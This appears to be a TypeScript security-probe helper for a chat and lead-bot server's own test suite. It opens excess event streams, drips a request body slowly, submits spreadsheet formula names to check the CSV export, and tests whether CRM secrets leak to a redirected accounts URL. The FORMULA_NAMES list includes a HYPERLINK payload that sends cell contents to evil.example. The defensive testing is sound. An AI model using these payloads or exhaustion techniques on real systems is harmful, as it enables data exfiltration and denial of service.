import { createServer, request as httpRequest, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { connect } from 'node:net';
import { recordsCsv } from '../../web/admin/src/records/csv.ts';
import { reply, startConversation, waitUntil, type Visitor } from '../../test/helpers/visitors.ts';

/**
 * The attacks of issue 12's security probe, each with the figure that says whether it worked.
 * Every one comes from an address of its own on the loopback network (127.0.0.0/8), as an
 * attacker's would, so that the limits it meets are per address and nobody else's.
 */

/** The loopback addresses the attacks come from; the rest of the run uses 127.0.0.1. */
export const ATTACKER = { requests: '127.0.0.2', streamsOne: '127.0.0.3', streamsMany: '127.0.0.4', slowBody: '127.0.0.5' } as const;

/** What the server must hold to (docs/operating.md): streams per conversation and per address. */
const STREAMS_PER_CONVERSATION = 5;
const STREAMS_PER_ADDRESS = 20;

interface OpenedStream {
  readonly status: number;
  close(): void;
}

/** Opens an event stream from `localAddress` and resolves once the status line is in. */
function openStream(base: string, visitor: Visitor, localAddress: string): Promise<OpenedStream> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      `${base}/api/v1/conversations/${visitor.id}/events?token=${visitor.token}&lastEventId=999`,
      { localAddress, headers: { accept: 'text/event-stream' } },
      (res: IncomingMessage) => {
        res.resume();
        resolve({ status: res.statusCode ?? 0, close: () => req.destroy() });
      },
    );
    req.on('error', reject);
    req.setTimeout(10_000, () => req.destroy(new Error('no answer to an event stream within 10 s')));
    req.end();
  });
}

export interface StreamsResult {
  readonly oneConversation: { readonly tried: number; readonly accepted: number; readonly refused429: number };
  readonly oneAddress: { readonly tried: number; readonly accepted: number; readonly refused429: number };
  /** Streams accepted past a limit: the figure that must be 0. */
  readonly excess: number;
}

/** 40 streams on one conversation from one address, then 5 on each of five others from another address. */
export async function manyStreams(base: string, victims: readonly Visitor[]): Promise<StreamsResult> {
  const open: OpenedStream[] = [];
  const count = (list: OpenedStream[]) => ({
    tried: list.length,
    accepted: list.filter((s) => s.status === 200).length,
    refused429: list.filter((s) => s.status === 429).length,
  });
  try {
    const one: OpenedStream[] = [];
    for (let i = 0; i < 40; i++) one.push(await openStream(base, victims[0]!, ATTACKER.streamsOne));
    open.push(...one);
    const many: OpenedStream[] = [];
    for (let round = 0; round < 5; round++) {
      for (const v of victims.slice(1)) many.push(await openStream(base, v, ATTACKER.streamsMany));
    }
    open.push(...many);
    const oneConversation = count(one);
    const oneAddress = count(many);
    const excess = Math.max(0, oneConversation.accepted - STREAMS_PER_CONVERSATION) + Math.max(0, oneAddress.accepted - STREAMS_PER_ADDRESS);
    return { oneConversation, oneAddress, excess };
  } finally {
    for (const s of open) s.close();
  }
}

export interface SlowBodyResult {
  /** Seconds until the server cut the connection; null when it was still open at the deadline. */
  readonly cutAfterSeconds: number | null;
  readonly answer: string;
}

/**
 * A start request whose body arrives one byte every 2 s from its own address. The server must
 * cut it (408) within its request timeout and one check (30 + 5 s); still open after 60 s is a
 * connection anyone can hold for as long as they like.
 */
export function slowBody(base: string, deadlineMs = 60_000): Promise<SlowBodyResult> {
  const url = new URL(base);
  return new Promise((resolve) => {
    const began = Date.now();
    const socket = connect({ host: url.hostname, port: Number(url.port), localAddress: ATTACKER.slowBody });
    let answer = '';
    socket.setEncoding('utf8').on('data', (chunk: string) => (answer += chunk));
    socket.on('error', () => undefined);
    const drip = setInterval(() => socket.writable && socket.write(' '), 2_000);
    const give = setTimeout(() => finish(null), deadlineMs);
    function finish(seconds: number | null): void {
      clearInterval(drip);
      clearTimeout(give);
      socket.destroy();
      resolve({ cutAfterSeconds: seconds, answer: answer.split('\r\n')[0] ?? '' });
    }
    socket.on('close', () => finish(Math.round((Date.now() - began) / 1000)));
    socket.write(`POST /api/v1/bots/lead/conversations HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`);
  });
}

/** The probe's names: a spreadsheet would run each as a formula. */
export const FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&B2,"x")', '+SUM(1,1)', '-1+2', '@SUM(1,1)'];

export interface FormulaResult {
  readonly leads: number;
  /** Cells of the records export that a spreadsheet would run: the figure that must be 0. */
  readonly formulaCells: number;
}

/**
 * Leads named as formulas, through the lead bot as a visitor would; then the records export the
 * admin app makes (the same function) of every lead, read cell by cell.
 */
export async function formulaNames(base: string, adminToken: string): Promise<FormulaResult> {
  for (const [i, name] of FORMULA_NAMES.entries()) {
    const v = await startConversation(base, 'lead');
    for (const answer of [name, `formula${i}@example.com`, '090-1234-5678', name]) await reply(base, v, answer);
  }
  type Leads = { items: Record<string, unknown>[]; total: number };
  const leads = async (): Promise<Leads> => {
    const res = await fetch(`${base}/api/v1/admin/records/leads?limit=500&search=formula`, { headers: { authorization: `Bearer ${adminToken}` } });
    if (res.status !== 200) throw new Error(`the admin's records list answered ${res.status}: ${(await res.text()).slice(0, 200)}`);
    return (await res.json()) as Leads;
  };
  await waitUntil('the formula leads are created', async () => (await leads()).total >= FORMULA_NAMES.length, 30_000, 250);
  const { items } = await leads();
  const csv = recordsCsv(items, ['id', 'name', 'email', 'phone', 'company', 'source', 'createdAt']);
  // A cell as the spreadsheet sees it: unquoted, its first character decides.
  const cells = csv.split('\n').flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g) ?? []);
  const formulaCells = cells
    .map((c) =>
      c
        .replace(/,$/, '')
        .replace(/^"(.*)"$/s, '$1')
        .replaceAll('""', '"'),
    )
    .filter((c) => /^[=+\-@\t\r＝＋－＠]/.test(c)).length;
  return { leads: items.length, formulaCells };
}

export interface CredentialRedirectResult {
  /** Whether the admin API accepted a foreign accounts URL that keeps the stored secrets. */
  readonly foreignUrlAccepted: boolean;
  /** Stored secrets that reached the foreign server: the figure that must be 0. */
  readonly secretsReceived: number;
  readonly secrets: readonly string[];
}

/**
 * Issue 12 item 1 as an attacker with the admin token (or a stolen admin session) would try it:
 * store Zoho credentials for the CRM, then move only its accounts URL to a server of theirs and
 * ask for a check. The secrets must never reach that server. The CRM is put back on the
 * built-in store afterwards.
 */
export async function credentialRedirect(base: string, adminToken: string): Promise<CredentialRedirectResult> {
  const secrets = { clientSecret: `reliability-client-secret-${process.pid}-${Date.now()}`, refreshToken: `1000.reliability-refresh-${process.pid}` };
  const received: string[] = [];
  const foreign = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8').on('data', (c: string) => (body += c));
    req.on('end', () => {
      received.push(`${req.url ?? ''} ${body} ${JSON.stringify(req.headers)}`);
      res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_client"}');
    });
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  const foreignUrl = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  const admin = (method: string, path: string, body?: unknown) =>
    fetch(`${base}/api/v1/admin${path}`, {
      method,
      headers: { authorization: `Bearer ${adminToken}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
  try {
    const settings = { dc: 'jp', clientId: '1000.RELIABILITY' };
    const stored = await admin('PUT', '/integrations/crm', { provider: 'zoho', settings, secrets });
    if (stored.status !== 200) throw new Error(`storing the Zoho credentials answered ${stored.status}: ${await stored.text()}`);
    const moved = await admin('PUT', '/integrations/crm', { provider: 'zoho', settings: { ...settings, accountsUrl: foreignUrl, apiUrl: foreignUrl } });
    await moved.text();
    await (await admin('POST', '/integrations/crm/check')).text();
    const all = received.join('\n');
    const secretsReceived = Object.values(secrets).filter((s) => all.includes(s)).length;
    return { foreignUrlAccepted: moved.status === 200, secretsReceived, secrets: Object.values(secrets) };
  } finally {
    await (await admin('PUT', '/integrations/crm', { provider: 'builtin' })).text();
    await new Promise<void>((resolve) => foreign.close(() => resolve()));
  }
}
